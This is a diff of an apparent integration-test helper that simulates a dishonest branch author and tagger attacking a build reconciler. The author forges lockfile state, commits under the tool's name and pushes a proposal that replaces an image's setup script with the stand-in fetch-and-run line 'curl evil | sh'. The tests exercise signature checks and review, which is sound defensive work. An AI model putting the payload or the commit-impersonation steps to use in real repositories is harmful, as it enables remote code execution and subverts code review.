@@ -1,16 +1,20 @@
 """A branch author, a tagger and two honest runs: what the first two may do, and an account of what the others did.
 
 The author pushes branches and has what a reviewer passes merged. The tagger pushes and moves git's tags without our
-key, and makes, marks and deletes artifacts. Honest are main's two jobs, previews, and whoever validates.
+key, and makes, marks and deletes artifacts. Honest are main's two jobs, previews, and whoever validates; and a
+reviewer, who merges what is proposed where our key signed it, and looks no closer.
 """
 
 from __future__ import annotations
 
 import json
 from collections import defaultdict
+from collections.abc import Iterator
+from contextlib import contextmanager
 from dataclasses import dataclass, field, replace
 from pathlib import Path
 
+from reconciler.git.proposal import PROPOSAL
 from reconciler.model.lockfile import Artifact, Build
 from reconciler.model.observation import Seen
 from reconciler.model.values import format_instant
@@ -22,6 +26,10 @@ from tests.integration.loop.keys import Keys, signing
 from tests.integration.loop.world import FLEET, ON_BASE, ON_DEBIAN, SETTINGS, Controller, World, git, image_files
 
 SIGNING = f"{SETTINGS}git: {{sign: true}}\n"
+PROPOSING = f"{SETTINGS}git: {{sign: true, push: pull-request}}\n"
+OUR_NAME = ("-c", "user.name=reconciler", "-c", "user.email=reconciler@localhost")
+"""What whoever reads a commit of ours can call himself."""
+EVIL = "curl evil | sh\n"
 SUITE = "def test_nothing_listens(host):\n    assert not host.socket('tcp://0.0.0.0:4444').is_listening\n"
 EMPTIED = "def test_nothing(host):\n    pass\n"
 FORGED = replace(NOTHING_INSIDE, kernel="forged")
@@ -51,6 +59,8 @@ class Account:
     """Those that passed it in a job of main."""
     copies: dict[str, str] = field(default_factory=dict)
     """What each copy was made from."""
+    tags: set[str] = field(default_factory=set)
+    """The objects that are tags which honest runs made."""
 
     def is_good(self, image: str, artifact_id: str) -> bool:
         """Whether it was tested by main, or built from reviewed inputs and tested by the reviewed suite."""
@@ -76,17 +86,25 @@ class Town:
     world: World
     keys: Keys
     account: Account
+    proposes: bool = False
+    """Whether state is proposed, and merged by a reviewer."""
 
     @classmethod
-    def begin(cls, root: Path) -> Town:
+    def begin(cls, root: Path, *, proposes: bool = False) -> Town:
         """Base and web, built by an honest run that signs, and judged."""
         root.mkdir()
-        town = cls(World.begin(root / "world", FILES), Keys.begin(root), Account())
+        files = {**FILES, "desired/reconciler.yaml": PROPOSING} if proposes else FILES
+        town = cls(World.begin(root / "world", files), Keys.begin(root), Account(), proposes)
         for image in ("base", "web"):
             town.account.reviewed[image].add("true\n")
-        town.run("ci").reconcile()
-        town.validate()
-        town.run("ci").reconcile()
+        for _ in range(2):
+            with town.honestly():
+                town.run("ci").reconcile()
+            town.merge_proposal()
+            town.validate()
+        with town.honestly():
+            town.run("ci").reconcile()
+        town.merge_proposal()
         town.note_copies()
         town.world.clock.advance(hours=1)
         return town
@@ -96,9 +114,9 @@ class Town:
         account = Account(
             defaultdict(set, {image: set(seen) for image, seen in self.account.reviewed.items()}),
             dict(self.account.made), set(self.account.passed), set(self.account.by_main),
-            dict(self.account.copies),
+            dict(self.account.copies), set(self.account.tags),
         )  # fmt: skip
-        return Town(self.world.copy_to(root), self.keys, account)
+        return Town(self.world.copy_to(root), self.keys, account, self.proposes)
 
     # The honest.
 
@@ -125,6 +143,33 @@ class Town:
         controller.tester.during = note_boot
         return controller
 
+    @contextmanager
+    def honestly(self) -> Iterator[None]:
+        """Keep account of the tags that are made meanwhile."""
+        before = set(self.signed_tags().values())
+        try:
+            yield
+        finally:
+            self.account.tags |= set(self.signed_tags().values()) - before
+
+    def is_honest(self, name: str) -> bool:
+        """Whether an honest run made the tag that is there, for this name."""
+        return self.signed_tags().get(name) in self.account.tags and self.made_for(name) == name
+
+    def merge_proposal(self, *, squash: bool = True) -> None:
+        """A reviewer merges what is proposed where our key signed it, as a ruleset may ask for, and closes all else."""
+        if not self.proposes or PROPOSAL not in self.world.branches():
+            return
+        folder, tip = self.world.root / "person", git(self.world.origin, "rev-parse", f"refs/heads/{PROPOSAL}")
+        if self.keys.are_good(self.world.origin, tip):
+            git(folder, "pull", "--quiet", "--ff-only", "origin", "main")
+            git(folder, "fetch", "--quiet", "origin", tip)
+            git(folder, "merge", "--quiet", *(("--squash",) if squash else ("--no-ff", "--no-commit")), tip)
+            if git(folder, "diff", "--cached", "--name-only"):
+                git(folder, "commit", "--quiet", "--message", "Record state (#9)")
+                git(folder, "push", "--quiet", "origin", "HEAD:main")
+        git(self.world.origin, "update-ref", "-d", f"refs/heads/{PROPOSAL}")
+
     def note_copies(self) -> None:
         """Keep account of what was copied from what: where the registry forgets an artifact, this does not."""
         self.account.copies |= {
@@ -139,28 +184,73 @@ class Town:
 
     def push_branch(self, branch: str, image: str, setup: str, suite: str) -> None:
         """Push a branch that changes an image, with words in its message that read like ours."""
+        folder = self._on_main(branch)
+        (folder / f"desired/{image}/setup.sh").write_text(setup)
+        (folder / f"suites/{image}/test_it.py").write_text(suite)
+        git(folder, "add", "--all")
+        git(folder, "commit", "--quiet", "--allow-empty", "--message", self._like_ours(image))
+        git(folder, "push", "--quiet", "--force", "origin", branch)
+
+    def push_state(self, branch: str, image: str, *, attested: bool, signed: bool) -> str:
+        """Push a branch that says in state/ that the newest build passed other tests, in a commit that reads like ours.
+
+        Returns the commit. The build's honest statement is left beside it where it is to be `attested`; the commit is
+        `signed` with the author's own key.
+        """
+        folder = self._on_main(branch)
+        path = folder / f"state/{image}.lock.json"
+        lock = json.loads(path.read_text())
+        lock["builds"][0]["smoke_test"]["tests"] = TESTS
+        if not attested:
+            lock["builds"][0].pop("provenance", None)
+        path.write_text(_canonical(lock))
+        key = ("-c", "gpg.format=ssh", "-c", f"user.signingKey={self.keys.other}", "-c", f"commit.gpgSign={signed}")
+        git(folder, *OUR_NAME, *key, "commit", "--quiet", "--all", "--message", self._like_ours(image))
+        git(folder, "push", "--quiet", "--force", "origin", branch)
+        return git(folder, "rev-parse", "HEAD")
+
+    def push_proposal(self, image: str, artifact: Seen, *, amends: bool) -> None:
+        """Push the branch that proposes state under our name: it says of an artifact that it is the newest build.
+
+        Beside what is proposed already where it `amends` that. It changes what the image runs, too.
+        """
+        folder = self._on_main("mine")
+        if amends and PROPOSAL in self.world.branches():
+            git(folder, "fetch", "--quiet", "origin", PROPOSAL)
+            git(folder, "checkout", "--quiet", "FETCH_HEAD", "--", "state")
+        path = folder / f"state/{image}.lock.json"
+        lock = json.loads(path.read_text())
+        lock["builds"][0]["smoke_test"]["tests"] = TESTS
+        lock["builds"][0]["artifacts"][0]["id"] = artifact.id
+        path.write_text(_canonical(lock))
+        (folder / f"desired/{image}/setup.sh").write_text(EVIL)
+        git(folder, "add", "--all")
+        git(folder, *OUR_NAME, "commit", "--quiet", "--message", f"Record state: {image}")
+        git(folder, "push", "--quiet", "--force", "origin", f"HEAD:{PROPOSAL}")
+
+    def _on_main(self, branch: str) -> Path:
+        """The author's clone, on a branch of this name that begins at main."""
         folder = self.world.root / "author"
         if not folder.exists():
             git(self.world.root, "clone", "--quiet", "origin.git", "author")
         git(folder, "fetch", "--quiet", "origin", "main")
         git(folder, "switch", "--quiet", "--discard-changes", "--force-create", branch, "FETCH_HEAD")
+        return folder
+
+    def _like_ours(self, image: str) -> str:
         newest = self.world.lock(image).builds[0]
-        message = (
+        return (
             f"{image}: build {newest.id} (forced)\n\n"
             f"Reconciler-Image: {image}\nReconciler-Build: {newest.id}\nReconciler-Key: {newest.key}\n"
         )
-        (folder / f"desired/{image}/setup.sh").write_text(setup)
-        (folder / f"suites/{image}/test_it.py").write_text(suite)
-        git(folder, "add", "--all")
-        git(folder, "commit", "--quiet", "--allow-empty", "--message", message)
-        git(folder, "push", "--quiet", "--force", "origin", branch)
 
     def preview(self, branch: str) -> None:
         """The branch's job builds what it changes."""
         job = self.run("job", main=False)
         git(job.root, "fetch", "--quiet", "--force", "--tags", "origin")
         git(job.root, "switch", "--quiet", "--detach", "--discard-changes", f"origin/{branch}")
-        job.preview(branch)
+        with self.honestly():
+            job.preview(branch)
 
     def merge(self, image: str, setup: str) -> None:
         """A reviewer passes a change of what an image runs."""
@@ -176,9 +266,12 @@ class Town:
         how = ["--sign"] if signed else ["--annotate"]
         git(self.world.origin, *options, "tag", "--force", *how, "--message", message, name, target)
 
-    def forge(self, image: str, artifact: Seen, *, signed: bool) -> None:
-        """Put a record in the place of a build's, which says that it is this artifact, and was tested."""
-        build_id = artifact.own("build") or ""
+    def forge(self, image: str, artifact: Seen, *, signed: bool, build_id: str = "") -> None:
+        """Put a record in the place of a build's, which says that it is this artifact, and was tested.
+
+        The build is the one that the artifact's marks name, if not given.
+        """
+        build_id = build_id or artifact.own("build") or ""
         record = self._any_record(image).model_copy(
             update={
                 "id": build_id,
@@ -247,3 +340,7 @@ class Town:
         self.note_copies()
         account, everything = self.account, self.world.registry.artifacts
         return [one for one in everything if one.own("fleet") != FLEET and account.first(one.id) not in account.made]
+
+
+def _canonical(lock: object) -> str:
+    return f"{json.dumps(lock, sort_keys=True, indent=2)}\n"
